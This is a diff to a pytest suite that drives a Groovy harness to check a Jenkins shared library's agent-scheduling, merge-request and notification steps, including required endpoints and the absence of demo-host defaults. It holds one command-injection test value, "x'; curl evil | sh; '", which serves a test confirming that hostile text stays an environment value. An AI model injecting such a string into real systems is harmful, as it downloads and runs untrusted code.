@@ -4,6 +4,7 @@ from __future__ import annotations
 
 import json
 import os
+import re
 import shutil
 import subprocess
 from pathlib import Path
@@ -19,6 +20,12 @@ SHA = "4f2c1d8e9a7b6c5d4e3f2a1b0c9d8e7f6a5b4c3d"
 DIGEST = "sha256:" + "3" * 64
 EVIL = "x'; curl evil | sh; '"
 GITOPS = "https://gitlab.demo.pathops.io/shop/shop-frontend-gitops.git"
+# The controller's global environment (jenkins/casc.yaml): the only source of endpoints a step does not get.
+GLOBAL_ENV = {"PATHOPS_MINIO_ENDPOINT": "https://minio.pathops.example",
+              "PATHOPS_CONTROL_PLANE_URL": "https://control-plane.pathops.example",
+              "PATHOPS_GITLAB_URL": "https://gitlab.pathops.example",
+              "PATHOPS_JENKINS_WEBHOOK_URL": "https://control-plane.pathops.example/webhooks/jenkins",
+              "PATHOPS_REGISTRY": "harbor.pathops.example/pathops"}
 
 CASES: dict[str, dict[str, Any]] = {
     "evidence defaults": {"step": "scheduleEvidenceCollector",
@@ -77,6 +84,12 @@ CASES: dict[str, dict[str, Any]] = {
     "verification": {"step": "scheduleVerificationAgent",
                      "config": {"app": "shop-frontend", "verificationId": "VER-7", "gitopsRepo": GITOPS,
                                 "expectedCommitSha": SHA, "specFile": "deploy/verification.yaml"}},
+    "verification with its incident": {"step": "scheduleVerificationAgent",
+                                       "config": {"app": "shop-frontend", "verificationId": "VER-7",
+                                                  "incidentId": "INC-1042", "gitopsRepo": GITOPS}},
+    "verification with an incident id": {"step": "scheduleVerificationAgent",
+                                         "config": {"app": "shop-frontend", "verificationId": "INC-1042",
+                                                    "gitopsRepo": GITOPS}},
     "verification of a patch": {"step": "scheduleVerificationAgent",
                                 "config": {"app": "shop-frontend", "verificationId": "VER-7", "gitopsRepo": GITOPS,
                                            "expectedCommitSha": SHA, "patchId": "patch-" + "c" * 32}},
@@ -109,6 +122,25 @@ CASES: dict[str, dict[str, Any]] = {
                                                  "reportId": "patch-" + "d" * 32}},
     "notify": {"step": "notifyControlPlane", "config": {"job": "create-mr-from-patch", "changesetId": "CS-17"}},
     "notify bad status": {"step": "notifyControlPlane", "config": {"job": "x", "status": "exploded"}},
+    **{f"no global {variable}": {"step": step, "env": {k: v for k, v in GLOBAL_ENV.items() if k != variable},
+                                 "config": config}
+       for variable, step, config in [
+           ("PATHOPS_MINIO_ENDPOINT", "scheduleEvidenceCollector",
+            {"app": "shop-frontend", "incidentId": "INC-1042", "gitopsRepo": GITOPS}),
+           ("PATHOPS_CONTROL_PLANE_URL", "scheduleFixAgent",
+            {"app": "shop-frontend", "incidentId": "INC-1042", "gitopsRepo": GITOPS, "snapshotId": "snap-" + "a" * 32,
+             "image": f"harbor.pathops.example/pathops/agents/fix:x@{DIGEST}"}),
+           ("PATHOPS_REGISTRY", "scheduleVerificationAgent",
+            {"app": "shop-frontend", "verificationId": "VER-7", "gitopsRepo": GITOPS}),
+           ("PATHOPS_GITLAB_URL", "createMrFromPatch",
+            {"srcRepo": "shop/shop-frontend", "patchId": "patch-" + "b" * 32, "changesetId": "CS-17"}),
+           ("PATHOPS_JENKINS_WEBHOOK_URL", "notifyControlPlane", {"job": "create-mr-from-patch"}),
+       ]},
+    "explicit endpoints without a global environment": {
+        "step": "scheduleEvidenceCollector", "env": {},
+        "config": {"app": "shop-frontend", "incidentId": "INC-1042", "gitopsRepo": GITOPS,
+                   "minioEndpoint": "https://minio.other.example", "controlPlaneUrl": "https://cp.other.example",
+                   "image": "harbor.other.example/pathops/evidence-collector:0.1.0"}},
 }
 
 
@@ -118,7 +150,7 @@ def results(tmp_path_factory: pytest.TempPathFactory) -> dict[str, dict[str, Any
     if groovy is None:
         pytest.fail("groovy is missing: `make test` installs it (apt-get install groovy)")
     cases = tmp_path_factory.mktemp("groovy") / "cases.json"
-    cases.write_text(json.dumps([{"name": name, **case} for name, case in CASES.items()]))
+    cases.write_text(json.dumps([{"name": name, "env": GLOBAL_ENV, **case} for name, case in CASES.items()]))
     env = {**os.environ, "JAVA_HOME": os.environ.get("JAVA_HOME", "/usr/lib/jvm/java-17-openjdk-amd64")}
     result = subprocess.run([groovy, str(Path(__file__).parent / "harness.groovy"), str(ROOT), str(cases)],
                             capture_output=True, text=True, env=env, timeout=300, check=False)
@@ -137,9 +169,9 @@ def test_evidence_collector_defaults(results: dict[str, dict[str, Any]]) -> None
         "GITLAB_TOKEN": "****", "AGENT": "evidence-collector", "APP_ID": "shop-frontend", "ENV": "preflight",
         "INCIDENT_ID": "INC-1042", "TARGET_NAMESPACE": "shop-frontend-preflight",
         "AGENTS_NAMESPACE": "shop-frontend-agents", "TIME_WINDOW": "30m",
-        "AGENT_IMAGE": "harbor.demo.pathops.io/pathops/evidence-collector:0.1.0", "GITOPS_REPO_URL": GITOPS,
-        "GITOPS_BRANCH": "main", "MINIO_ENDPOINT": "https://minio.demo.pathops.io",
-        "MINIO_BUCKET": "pathops-evidence", "CONTROL_PLANE_URL": "https://control-plane.pathops.io"}
+        "AGENT_IMAGE": "harbor.pathops.example/pathops/evidence-collector:0.1.0", "GITOPS_REPO_URL": GITOPS,
+        "GITOPS_BRANCH": "main", "MINIO_ENDPOINT": "https://minio.pathops.example",
+        "MINIO_BUCKET": "pathops-evidence", "CONTROL_PLANE_URL": "https://control-plane.pathops.example"}
     credentials = next(c for c in results["evidence defaults"]["calls"] if c["step"] == "withCredentials")
     assert credentials["bindings"] == [{"type": "string", "credentialsId": "pathops-gitlab-token",
                                         "variable": "GITLAB_TOKEN"}]
@@ -184,7 +216,7 @@ def test_build_fix_agent_builds_then_schedules_the_pushed_digest(results: dict[s
     assert build["script"] == "fix-agent build-image"
     assert build["env"]["SOURCE_COMMIT_SHA"] == SHA and build["env"]["IMAGE_BUILDER"] == "buildah"
     assert build["env"]["REGISTRY_USERNAME"] == build["env"]["REGISTRY_PASSWORD"] == "****"
-    assert build["env"]["HARBOR_REPO"] == "harbor.demo.pathops.io/pathops/agents"
+    assert build["env"]["HARBOR_REPO"] == "harbor.pathops.example/pathops/agents"
     assert schedule["script"] == "gitops-patcher schedule"
     assert schedule["env"]["AGENT_IMAGE"] == f"harbor.demo.pathops.io/pathops/agents/fix-shop-frontend@{DIGEST}"
     assert result["returned"] == schedule["env"]["AGENT_IMAGE"]
@@ -200,7 +232,8 @@ def test_merge_request_step(results: dict[str, dict[str, Any]]) -> None:
         ("GITLAB_TOKEN", "AWS_ACCESS_KEY_ID", "AWS_SECRET_ACCESS_KEY", "CALLBACK_SIGNING_KEY"), "****")
     assert env["SRC_REPO"] == "shop/shop-frontend" and env["PATCH_ID"] == "patch-" + "b" * 32
     assert env["MR_DRAFT"] == "true" and env["MR_LABELS"] == ""
-    assert env["CONTROL_PLANE_CALLBACK_URL"] == "https://control-plane.pathops.io/webhooks/jenkins"
+    assert env["CONTROL_PLANE_CALLBACK_URL"] == "https://control-plane.pathops.example/webhooks/jenkins"
+    assert env["GITLAB_URL"] == "https://gitlab.pathops.example" and env["SOURCE_COMMIT_SHA"] == SHA
 
 
 def test_hostile_text_reaches_the_shell_only_as_an_environment_value(results: dict[str, dict[str, Any]]) -> None:
@@ -223,6 +256,12 @@ def test_verification_step(results: dict[str, dict[str, Any]]) -> None:
     assert sh["env"]["AGENT"] == "verification-agent" and sh["env"]["ENV"] == "preflight"
     assert sh["env"]["EXPECTED_COMMIT_SHA"] == SHA and sh["env"]["VERIFICATION_SPEC_FILE"] == "deploy/verification.yaml"
     assert sh["env"]["VERIFICATION_SPEC_ROOT"] == "verification-spec"
+    # Its own id; an incident only when the control plane names one, never the verification id copied.
+    assert sh["env"]["VERIFICATION_ID"] == "VER-7" and "INCIDENT_ID" not in sh["env"]
+    (with_incident,) = shells(results["verification with its incident"])
+    assert with_incident["env"]["INCIDENT_ID"] == "INC-1042" and with_incident["env"]["VERIFICATION_ID"] == "VER-7"
+    assert results["verification with an incident id"]["error"] == (
+        "[scheduleVerificationAgent] verificationId is not a valid verificationId")
 
 
 def test_verification_of_a_patch_takes_the_spec_from_its_bundle(results: dict[str, dict[str, Any]]) -> None:
@@ -297,3 +336,70 @@ def test_every_step_is_documented() -> None:
     steps = sorted(p.stem for p in (ROOT / "vars").glob("*.groovy"))
     assert steps == sorted(p.stem for p in (ROOT / "vars").glob("*.txt"))
     assert steps == sorted({case["step"] for case in CASES.values()})
+
+
+JENKINSFILES = [ROOT / "Jenkinsfile", *sorted((ROOT / "jenkins").glob("*/Jenkinsfile"))]
+
+
+@pytest.fixture(scope="module")
+def pipelines() -> dict[str, dict[str, Any]]:
+    """Each Jenkinsfile run under jenkinsfile_harness.groovy: which library it loaded, what it called."""
+    groovy = shutil.which("groovy")
+    if groovy is None:
+        pytest.fail("groovy is missing: `make test` installs it (apt-get install groovy)")
+    env = {**os.environ, "JAVA_HOME": os.environ.get("JAVA_HOME", "/usr/lib/jvm/java-17-openjdk-amd64")}
+    result = subprocess.run([groovy, str(Path(__file__).parent / "jenkinsfile_harness.groovy"), str(ROOT),
+                             *map(str, JENKINSFILES)], capture_output=True, text=True, env=env, timeout=300,
+                            check=False)
+    assert result.returncode == 0, result.stderr
+    runs = json.loads(result.stdout.strip().splitlines()[-1])
+    return {str(Path(run["path"]).relative_to(ROOT)): run for run in runs}
+
+
+@pytest.mark.parametrize("jenkinsfile", [str(path.relative_to(ROOT)) for path in JENKINSFILES])
+def test_every_pipeline_loads_the_library_before_it_uses_it(pipelines: dict[str, dict[str, Any]],
+                                                             jenkinsfile: str) -> None:
+    run = pipelines[jenkinsfile]
+    assert run["error"] is None, f"{jenkinsfile}: {run['error']}"
+    assert [call["args"] for call in run["calls"] if call["step"] == "libraryResource"] == [
+        ["io/pathops/jenkins/pod-template.yaml"]]
+
+
+def test_this_repositorys_ci_loads_the_library_from_the_commit_under_test(
+        pipelines: dict[str, dict[str, Any]]) -> None:
+    (library,) = pipelines["Jenkinsfile"]["libraries"]
+    assert library == {"identifier": "pathops-golden-path@ci", "how": "library", "retriever": "legacySCM"}
+
+
+def test_the_paths_the_jenkins_readme_points_at_exist() -> None:
+    text = (ROOT / "jenkins" / "README.md").read_text(encoding="utf-8")
+    paths = set(re.findall(r"`((?:tests|src|vars|resources|jenkins)/[^`\s<>]+)`", text))
+    assert "tests/shared_library/harness.groovy" in paths
+    assert [path for path in sorted(paths) if not (ROOT / path).exists()] == []
+
+
+@pytest.mark.parametrize(("variable", "step", "argument"), [
+    ("PATHOPS_MINIO_ENDPOINT", "scheduleEvidenceCollector", "minioEndpoint"),
+    ("PATHOPS_CONTROL_PLANE_URL", "scheduleFixAgent", "controlPlaneUrl"),
+    ("PATHOPS_REGISTRY", "scheduleVerificationAgent", "image"),
+    ("PATHOPS_GITLAB_URL", "createMrFromPatch", "gitlabUrl"),
+    ("PATHOPS_JENKINS_WEBHOOK_URL", "notifyControlPlane", "callbackUrl"),
+])
+def test_a_missing_endpoint_stops_the_step_naming_the_argument_and_the_variable(
+        results: dict[str, dict[str, Any]], variable: str, step: str, argument: str) -> None:
+    # No demo host as a default: a forgotten endpoint must not render a Job that points elsewhere.
+    result = results[f"no global {variable}"]
+    assert result["error"] == (f"[{step}] {argument} is required: pass it or set {variable} "
+                               "in the Jenkins global environment")
+    assert shells(result) == []
+
+
+def test_endpoints_passed_to_a_step_need_no_global_environment(results: dict[str, dict[str, Any]]) -> None:
+    (sh,) = shells(results["explicit endpoints without a global environment"])
+    assert (sh["env"]["MINIO_ENDPOINT"], sh["env"]["CONTROL_PLANE_URL"]) == (
+        "https://minio.other.example", "https://cp.other.example")
+
+
+def test_no_step_or_pipeline_defaults_to_a_demo_host() -> None:
+    steps = [*ROOT.glob("vars/*.groovy"), *ROOT.glob("src/**/*.groovy"), *JENKINSFILES]
+    assert [str(path.relative_to(ROOT)) for path in steps if "demo.pathops.io" in path.read_text()] == []
